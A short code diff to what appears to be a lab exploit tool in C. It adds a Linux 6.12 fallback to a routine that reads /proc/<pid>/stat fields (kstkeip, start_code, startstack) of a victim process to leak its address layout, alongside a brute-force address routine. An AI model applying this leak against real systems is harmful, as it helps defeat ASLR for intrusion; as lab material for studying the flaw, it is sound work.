@@ -245,7 +245,12 @@ static void brute_force(void)
 	submit(LAB_EXE, mtop - (r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE - span);
 }
 
-/* The patch's leak: startstack bounds the stack top; kstkeip sits in the victim's code. */
+/*
+ * The patch's leak: startstack bounds the stack top; kstkeip sits in the
+ * victim's code.  Linux 6.12 never shows kstkeip (but of an exiting task);
+ * to a reader it permits (here: proc_leak_fix=0) it shows start_code,
+ * which is the code's place outright.
+ */
 static void proc_leak(const char *vpid)
 {
 	char state = 0;
@@ -260,6 +265,10 @@ static void proc_leak(const char *vpid)
 	eip = stat_field(vpid, 30, 0);
 	/* The same program's syscall site, relative to our own base. */
 	own_eip = stat_field("self", 30, 0);
+	if (!eip && !own_eip && stat_field(vpid, 26, 0) > 1) {
+		eip = stat_field(vpid, 26, 0); /* start_code (6.12) */
+		own_eip = stat_field("self", 26, 0);
+	}
 	own_layout(&dummy, &dummy, &own_exe);
 	if (ss) {
 		uint64_t top = (ss + PAGE - 1) & ~(PAGE - 1);
